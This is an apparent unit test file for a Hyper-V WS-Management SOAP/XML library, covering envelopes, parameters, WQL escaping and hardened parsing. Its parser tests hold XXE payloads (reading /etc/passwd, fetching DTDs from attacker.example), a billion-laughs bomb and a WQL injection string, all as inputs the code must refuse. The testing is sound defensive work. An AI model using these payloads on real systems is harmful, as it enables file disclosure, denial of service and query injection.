# Copyright (c) vmgate.hyperv contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""wsman_xml: envelopes and bodies as docs/wsman-wire.md writes them, parsed back; hardened parsing;
instances, references, CIM-XML and uint8[] in every wire form; WQL literals that stay data."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ansible_collections.vmgate.hyperv.plugins.plugin_utils.wsman.soap import (
    ANONYMOUS,
    ENUMERATE,
    GET,
    NS,
    PULL,
    WQL_DIALECT,
    CimXml,
    EndpointReference,
    Instance,
    XMLRefused,
    class_uri,
    decode_uint8_array,
    enumerate_body,
    envelope,
    invoke_body,
    parameter_xml,
    parse_cim_xml_instance,
    parse_document,
    parse_instance,
    pull_body,
    wql_literal,
)
from ansible_collections.vmgate.hyperv.tests.unit.plugins.plugin_utils.helpers import DETERMINISTIC

LIMIT = 512000
ENDPOINT = "https://hv01.example.com:5986/wsman"
V2 = "root/virtualization/v2"
COMPUTER_SYSTEM = class_uri(V2, "Msvm_ComputerSystem")
SERVICE = class_uri(V2, "Msvm_VirtualSystemMigrationService")
VECTOR = class_uri(V2, "Msvm_CompatibilityVector")
VM_ID = "6C9A2A5F-7F1B-4D4B-9C1E-0F0E1D2C3B4A"
VM_REF = EndpointReference(COMPUTER_SYSTEM, {"CreationClassName": "Msvm_ComputerSystem", "Name": VM_ID})
XMLNS = f'xmlns:xsi="{NS["xsi"]}" xmlns:cim="{NS["cim"]}" xmlns:a="{NS["a"]}" xmlns:w="{NS["w"]}"'
# Text XML 1.0 can carry as it is (no control characters, no lone surrogates, no noncharacters)
xml_text = st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cn")), max_size=12)


def parse(text):
    return parse_document(text.encode("utf-8"), LIMIT)


def sent(body="", **overrides):
    """An envelope and its message id, the envelope parsed back."""
    arguments = {"endpoint": ENDPOINT, "action": GET, "resource_uri": COMPUTER_SYSTEM, "body": body, **overrides}
    document, message_id = envelope(**arguments)
    return parse(document), message_id


def request(body="", **overrides):
    return sent(body, **overrides)[0]


def instance(xml):
    """parse_instance of an element written with the prefixes xsi, cim, a and w available."""
    xml = xml.strip()
    tag = re.match(r"<([\w:]+)", xml).group(1)
    return parse_instance(parse(xml.replace(f"<{tag}", f"<{tag} {XMLNS}", 1)))


def invoke_parameters(parameters):
    """The properties of an Invoke input body, sent inside a real envelope and read back."""
    root = request(invoke_body(SERVICE, "CheckSystemCompatibilityInfo", parameters), action=f"{SERVICE}/X")
    return parse_instance(root.find("s:Body", NS)[0]).properties


# --- envelope and bodies --------------------------------------------------------------------------

def test_envelope_header_holds_every_field_of_the_wire_contract():
    root, message_id = sent(max_envelope_size=153600, timeout_s=30)
    header = root.find("s:Header", NS)
    assert root.tag == f"{{{NS['s']}}}Envelope"
    assert header.findtext("a:To", namespaces=NS) == ENDPOINT
    assert header.findtext("w:ResourceURI", namespaces=NS) == COMPUTER_SYSTEM
    assert header.findtext("a:ReplyTo/a:Address", namespaces=NS) == ANONYMOUS
    assert header.findtext("a:Action", namespaces=NS) == GET
    assert header.findtext("w:MaxEnvelopeSize", namespaces=NS) == "153600"
    assert header.findtext("a:MessageID", namespaces=NS) == message_id
    assert header.findtext("w:OperationTimeout", namespaces=NS) == "PT30S"
    assert header.find("w:Locale", NS).get("{http://www.w3.org/XML/1998/namespace}lang") == "en-US"
    must_understand = f"{{{NS['s']}}}mustUnderstand"
    for path in ("w:ResourceURI", "a:Action", "w:MaxEnvelopeSize"):
        assert header.find(path, NS).get(must_understand) == "true"
    assert header.find("w:SelectorSet", NS) is None
    assert list(root.find("s:Body", NS)) == []


def test_envelope_defaults_and_unique_message_ids():
    (first, first_id), second_id = sent(), sent()[1]
    assert re.fullmatch(r"uuid:[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", first_id)
    assert first_id != second_id
    assert first.findtext("s:Header/w:MaxEnvelopeSize", namespaces=NS) == "512000"
    assert first.findtext("s:Header/w:OperationTimeout", namespaces=NS) == "PT60S"


def test_envelope_selector_set_and_text_are_escaped():
    selectors = {"InstanceID": "Microsoft:<job> & 'more'", "Name": VM_ID}
    root = request(selectors=selectors, endpoint="https://hv01:5986/wsman?a=1&b=2")
    found = root.findall("s:Header/w:SelectorSet/w:Selector", NS)
    assert {selector.get("Name"): selector.text for selector in found} == selectors
    assert root.findtext("s:Header/a:To", namespaces=NS) == "https://hv01:5986/wsman?a=1&b=2"


def test_enumerate_body():
    wql = f"SELECT * FROM Msvm_ComputerSystem WHERE ElementName = {wql_literal('a<b & c>')}"
    root = request(enumerate_body(wql, 100), action=ENUMERATE, resource_uri=class_uri(V2, "*"))
    body = root.find("s:Body/n:Enumerate", NS)
    assert body.find("w:OptimizeEnumeration", NS) is not None
    assert body.findtext("w:MaxElements", namespaces=NS) == "100"
    assert body.find("w:Filter", NS).get("Dialect") == WQL_DIALECT
    assert body.findtext("w:Filter", namespaces=NS) == wql
    assert root.findtext("s:Header/w:ResourceURI", namespaces=NS).endswith("/wmi/root/virtualization/v2/*")


def test_pull_body():
    root = request(pull_body("uuid:6A2E&<context>", 32), action=PULL)
    assert root.findtext("s:Body/n:Pull/n:EnumerationContext", namespaces=NS) == "uuid:6A2E&<context>"
    assert root.findtext("s:Body/n:Pull/n:MaxElements", namespaces=NS) == "32"


def test_invoke_body_is_the_method_input_in_the_class_namespace():
    root = request(invoke_body(SERVICE, "GetSystemCompatibilityVectors", {"ComputerSystem": VM_REF}))
    method = root.find("s:Body", NS)[0]
    assert method.tag == f"{{{SERVICE}}}GetSystemCompatibilityVectors_INPUT"
    assert [child.tag for child in method] == [f"{{{SERVICE}}}ComputerSystem"]


@pytest.mark.parametrize("namespace", ["root/virtualization/v2", "/root/virtualization/v2/"])
def test_class_uri(namespace):
    assert class_uri(namespace, "Msvm_ComputerSystem") == (
        "http://schemas.microsoft.com/wbem/wsman/1/wmi/root/virtualization/v2/Msvm_ComputerSystem"
    )


# --- parameters -----------------------------------------------------------------------------------

MIGRATION_SETTINGS = CimXml("Msvm_VirtualSystemMigrationSettingData", {
    "MigrationType": ("uint16", 32768),
    "DestinationIPAddressList": ("string", ["10.0.0.12", "fe80::1%4"]),
    "Note": ("string", "a <b> & 'c' \"d\""),
    "RetainVhdCopiesOnSource": ("boolean", False),
})


@pytest.mark.parametrize("value, sent", [
    ("hv02.example.com", "hv02.example.com"),
    ("a <b> & 'c' \"d\"", "a <b> & 'c' \"d\""),
    (True, "true"),
    (False, "false"),
    (32768, "32768"),
    (["10.0.0.1", "10.0.0.2"], ["10.0.0.1", "10.0.0.2"]),
    (("10.0.0.1", None, "10.0.0.2"), ["10.0.0.1", "10.0.0.2"]),
    (["only"], "only"),  # an array of one is indistinguishable from a scalar on the wire
    (VM_REF, VM_REF),
], ids=["text", "markup", "true", "false", "integer", "array", "tuple-with-none", "array-of-one", "reference"])
def test_parameters_round_trip(value, sent):
    assert invoke_parameters({"Value": value, "Other": "x"}) == {"Value": sent, "Other": "x"}


@pytest.mark.parametrize("value", [None, [], [None]], ids=["none", "empty-array", "array-of-none"])
def test_absent_parameters_are_omitted(value):
    assert parameter_xml("DestinationHost", value) == ""
    assert invoke_parameters({"DestinationHost": value, "Other": "x"}) == {"Other": "x"}


def test_cim_xml_parameter_is_escaped_text_that_round_trips():
    rendered = parameter_xml("MigrationSettingData", MIGRATION_SETTINGS)
    assert rendered.startswith("<c:MigrationSettingData>&lt;INSTANCE CLASSNAME=")
    assert "<INSTANCE" not in rendered
    text = invoke_parameters({"MigrationSettingData": MIGRATION_SETTINGS})["MigrationSettingData"]
    assert text == MIGRATION_SETTINGS.render()
    assert parse_cim_xml_instance(text, LIMIT) == Instance("Msvm_VirtualSystemMigrationSettingData", {
        "MigrationType": "32768",
        "DestinationIPAddressList": ["10.0.0.12", "fe80::1%4"],
        "Note": "a <b> & 'c' \"d\"",
        "RetainVhdCopiesOnSource": "false",
    })


@given(values=st.dictionaries(st.from_regex(r"[A-Za-z][A-Za-z0-9_]{0,8}", fullmatch=True),
                              st.one_of(xml_text, st.lists(xml_text, max_size=3)), max_size=4),
       class_name=xml_text)
@settings(DETERMINISTIC, max_examples=150)
def test_cim_xml_round_trips_any_text(values, class_name):
    embedded = CimXml(class_name, {name: ("string", value) for name, value in values.items()})
    text = invoke_parameters({"Data": embedded})["Data"]
    assert parse_cim_xml_instance(text, LIMIT) == Instance(class_name, values)


@pytest.mark.parametrize("text, value", [
    ("<INSTANCE CLASSNAME='X'><PROPERTY NAME='Message' TYPE='string'/></INSTANCE>", None),
    ("<INSTANCE CLASSNAME='X'><PROPERTY NAME='Message' TYPE='string'><VALUE/></PROPERTY></INSTANCE>", ""),
    ("<INSTANCE CLASSNAME='X'><PROPERTY NAME='Message' TYPE='string'><VALUE> a </VALUE></PROPERTY></INSTANCE>", " a "),
    ("<INSTANCE CLASSNAME='X'><PROPERTY.ARRAY NAME='Message' TYPE='string'/></INSTANCE>", []),
], ids=["no-value", "empty-value", "spaces-kept", "empty-array"])
def test_cim_xml_values(text, value):
    assert parse_cim_xml_instance(text, LIMIT).properties == {"Message": value}


def test_cim_xml_null_property_round_trips_as_null():
    # A PROPERTY without VALUE is NULL in CIM-XML; rendering None must not send the text "None"
    embedded = CimXml("Msvm_VirtualSystemMigrationSettingData", {"Bandwidth": ("uint64", None)})
    assert parse_cim_xml_instance(embedded.render(), LIMIT).properties == {"Bandwidth": None}


@pytest.mark.parametrize("text", [
    "<CLASS NAME='Msvm_Error'/>",
    "<!DOCTYPE INSTANCE [<!ENTITY e 'x'>]><INSTANCE CLASSNAME='X'/>",
    "<INSTANCE CLASSNAME='X'>",
    "not xml",
])
def test_cim_xml_refuses_anything_but_one_instance(text):
    with pytest.raises(XMLRefused):
        parse_cim_xml_instance(text, LIMIT)


# --- WQL literals ---------------------------------------------------------------------------------

def wql_tokens(text):
    """A reference WQL tokenizer as docs/wsman-wire.md states the rule: words, and single-quoted
    literals in which a backslash escapes the next character. An unterminated literal is an error."""
    tokens, index = [], 0
    while index < len(text):
        if text[index].isspace():
            index += 1
        elif text[index] == "'":
            value, index = [], index + 1
            while text[index] != "'":
                index += text[index] == "\\"
                value.append(text[index])
                index += 1
            tokens.append(("literal", "".join(value)))
            index += 1
        else:
            word = re.match(r"[^\s']+", text[index:]).group(0)
            tokens.append(("word", word))
            index += len(word)
    return tokens


@pytest.mark.parametrize("value, literal", [
    ("web01", "'web01'"),
    ("", "''"),
    ("it's", r"'it\'s'"),
    ("C:\\VMs\\", r"'C:\\VMs\\'"),
    ("\\'", r"'\\\''"),
    ("x' OR ElementName LIKE '%", r"'x\' OR ElementName LIKE \'%'"),
])
def test_wql_literal_exact(value, literal):
    assert wql_literal(value) == literal
    assert wql_tokens(literal) == [("literal", value)]


@given(value=st.text(max_size=20))
@settings(DETERMINISTIC, max_examples=300)
def test_wql_literal_stays_one_literal(value):
    condition = f"ElementName = {wql_literal(value)} AND Caption = 'Virtual Machine'"
    assert wql_tokens(condition) == [
        ("word", "ElementName"), ("word", "="), ("literal", value),
        ("word", "AND"), ("word", "Caption"), ("word", "="), ("literal", "Virtual Machine"),
    ]


# --- parse_document: hardened parsing -------------------------------------------------------------

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><lolz>&lol9;</lolz>"
)

REFUSED_DTD = {
    "internal-subset": b"<!DOCTYPE r [<!ELEMENT r ANY>]><r/>",
    "entity-declaration": b'<!DOCTYPE r [<!ENTITY e "expanded">]><r>&e;</r>',
    "external-entity": b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
    "external-dtd": b'<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>',
    "parameter-entity": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>',
    "unparsed-entity": b'<!DOCTYPE r [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "y" NDATA n>]><r/>',
    "billion-laughs": BILLION_LAUGHS,
    "dtd-in-utf-16": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'.encode("utf-16"),
}
VALID_ENVELOPE = envelope(endpoint=ENDPOINT, action=GET, resource_uri=COMPUTER_SYSTEM, body="")[0].encode()
MALFORMED = {
    "undeclared-entity": b"<r>&e;</r>",
    "mismatched": b"<r><a></r>",
    "truncated": VALID_ENVELOPE[: len(VALID_ENVELOPE) // 2],
    "truncated-end": VALID_ENVELOPE[:-1],
    "empty": b"",
    "text": b"HTTP/1.1 502 Bad Gateway",
    "html": b"<html><body><p>oops<br></body></html>",
    "two-roots": b"<a/><b/>",
    "garbage": bytes(range(256)),
    "binary": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "bad-utf-8": b"<r>\xff\xfe</r>",
    "unbound-prefix": b"<s:Envelope/>",
}


@pytest.mark.parametrize("data", REFUSED_DTD.values(), ids=REFUSED_DTD.keys())
def test_parse_document_refuses_dtds_and_entities(data):
    with pytest.raises(XMLRefused, match="DTD"):
        parse_document(data, LIMIT)


@pytest.mark.parametrize("data", MALFORMED.values(), ids=MALFORMED.keys())
def test_parse_document_refuses_malformed_input(data):
    with pytest.raises(XMLRefused, match="not well-formed"):
        parse_document(data, LIMIT)


def test_parse_document_bounds_the_size():
    data = b"<r>" + b"x" * 93 + b"</r>"
    assert parse_document(data, 100).text == "x" * 93
    with pytest.raises(XMLRefused, match="101 bytes, more than the 100 allowed"):
        parse_document(data + b" ", 100)


def test_refusal_is_a_value_error():
    assert issubclass(XMLRefused, ValueError)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_parse_document_accepts_utf_16_and_bom(encoding):
    text = '<?xml version="1.0" encoding="{}"?><c:X xmlns:c="urn:c"><c:ElementName>Žluťoučký 網 01</c:ElementName></c:X>'
    declared = "UTF-16" if encoding.startswith("utf-16") else "UTF-8"
    data = text.format(declared).encode(encoding)
    if encoding in ("utf-16-le", "utf-16-be"):
        data = "\ufeff".encode(encoding) + data
    assert parse_instance(parse_document(data, LIMIT)).properties == {"ElementName": "Žluťoučký 網 01"}


# --- parse_instance -------------------------------------------------------------------------------

def test_instance_from_an_enumeration():
    parsed = instance(f"""
        <c:Msvm_ComputerSystem xmlns:c="{COMPUTER_SYSTEM}" xsi:type="c:Msvm_ComputerSystem_Type">
          <c:Caption>Virtual Machine</c:Caption>
          <c:ElementName>web &amp; db</c:ElementName>
          <c:EnabledState>2</c:EnabledState>
          <c:InstallDate xsi:nil="true"/>
          <c:Name>{VM_ID}</c:Name>
          <c:Notes/>
          <c:OperationalStatus>2</c:OperationalStatus>
          <c:OperationalStatus>11</c:OperationalStatus>
          <c:TimeOfLastStateChange><cim:Datetime>2026-11-20T08:15:02.123Z</cim:Datetime></c:TimeOfLastStateChange>
        </c:Msvm_ComputerSystem>""")
    assert parsed == Instance("Msvm_ComputerSystem", {
        "Caption": "Virtual Machine",
        "ElementName": "web & db",
        "EnabledState": "2",
        "InstallDate": None,
        "Name": VM_ID,
        "Notes": "",
        "OperationalStatus": ["2", "11"],
        "TimeOfLastStateChange": "2026-11-20T08:15:02.123Z",
    })


@pytest.mark.parametrize("nil", ["true", "1"])
def test_nil(nil):
    assert instance(f'<c:X xmlns:c="urn:c"><c:A xsi:nil="{nil}"/><c:A>1</c:A></c:X>').properties == {"A": [None, "1"]}


@pytest.mark.parametrize("tag, text", [("Datetime", "2026-11-20T08:15:02Z"), ("Interval", "P1DT2H"),
                                       ("Date", "2026-11-20"), ("Time", "08:15:02")])
def test_cim_datetimes_are_unwrapped(tag, text):
    parsed = instance(f'<c:X xmlns:c="urn:c"><c:When><cim:{tag}>{text}</cim:{tag}></c:When></c:X>')
    assert parsed.properties == {"When": text}


def vector_element(type_attribute, vector_id):
    return (
        f'<c:CompatibilityVectors xmlns:v="{VECTOR}" {type_attribute}>'
        f"<v:CompareOperation>2</v:CompareOperation><v:CompatibilityInfo>274877906943</v:CompatibilityInfo>"
        f"<v:VectorId>{vector_id}</v:VectorId></c:CompatibilityVectors>"
    )


def test_method_output_with_embedded_instances_and_a_job_reference():
    job = class_uri(V2, "Msvm_MigrationJob")
    parsed = instance(
        f'<c:MigrateVirtualSystemToHost_OUTPUT xmlns:c="{SERVICE}">'
        + vector_element('xsi:type="v:Msvm_CompatibilityVector_Type"', 1)
        + vector_element("", 2)  # without xsi:type: the class comes from the properties' namespace
        + f"<c:Job><a:Address>{ANONYMOUS}</a:Address><a:ReferenceParameters><w:ResourceURI>{job}</w:ResourceURI>"
        + '<w:SelectorSet><w:Selector Name="InstanceID">Microsoft:A&amp;B</w:Selector></w:SelectorSet>'
        + "</a:ReferenceParameters></c:Job><c:ReturnValue>4096</c:ReturnValue></c:MigrateVirtualSystemToHost_OUTPUT>"
    )
    assert parsed.class_name == "Msvm_VirtualSystemMigrationService"
    assert parsed.properties == {
        "CompatibilityVectors": [
            Instance("Msvm_CompatibilityVector",
                     {"CompareOperation": "2", "CompatibilityInfo": "274877906943", "VectorId": str(vector_id)})
            for vector_id in (1, 2)
        ],
        "Job": EndpointReference(job, {"InstanceID": "Microsoft:A&B"}),
        "ReturnValue": "4096",
    }
    assert parsed.properties["Job"].class_name == "Msvm_MigrationJob"


def test_single_embedded_instance_is_not_a_list():
    parsed = instance(f'<c:Out xmlns:c="{SERVICE}">{vector_element("", 3)}</c:Out>')
    assert parsed.properties["CompatibilityVectors"].properties["VectorId"] == "3"


def test_xsi_type_names_the_class_even_in_another_namespace():
    parsed = instance('<c:Job xmlns:c="urn:job" xmlns:j="urn:other" xsi:type="j:Msvm_ConcreteJob_Type"><c:JobState>7</c:JobState></c:Job>')
    assert parsed == Instance("Msvm_ConcreteJob", {"JobState": "7"})


# --- uint8[] --------------------------------------------------------------------------------------

BLOB = bytes(range(256)) * 2


@pytest.mark.parametrize("value, expected", [
    (None, (b"", "array")),
    ([], (b"", "array")),
    (["12", "250", "0"], (b"\x0c\xfa\x00", "array")),
    ([str(byte) for byte in BLOB], (BLOB, "array")),
    ("12", (b"\x0c", "array")),
    ("0", (b"\x00", "array")),
    ("255", (b"\xff", "array")),
    (" 7\n", (b"\x07", "array")),
    ("AQID", (b"\x01\x02\x03", "base64")),
    (base64.b64encode(BLOB).decode(), (BLOB, "base64")),
    ("1234", (base64.b64decode("1234"), "base64")),  # digits, but not a byte: base64
], ids=["none", "empty-list", "decimals", "all-bytes", "one-byte", "zero", "max-byte", "padded-byte",
        "base64", "base64-blob", "digits-over-255"])
def test_decode_uint8_array(value, expected):
    assert decode_uint8_array(value) == expected


@pytest.mark.parametrize("value", [
    "%%%", "AQI", "AQ=D", "AQ==AQ==", "256", "-1", "12 13", "\u0663", ["256"], ["-1"], ["x"], ["\u0663"],
], ids=["symbols", "bad-padding", "inner-padding", "data-after-padding", "256", "negative", "two-numbers",
        "arabic-indic-digit", "item-256", "item-negative", "item-text", "item-arabic-indic-digit"])
def test_decode_uint8_array_refuses(value):
    with pytest.raises(ValueError):
        decode_uint8_array(value)


def test_bytes_parameter_is_sent_as_base64():
    # parameter_xml's docstring promises "bytes (base64)"
    assert parameter_xml("CompatibilityInfo", b"\x01\x02\xff") == "<c:CompatibilityInfo>AQL/</c:CompatibilityInfo>"
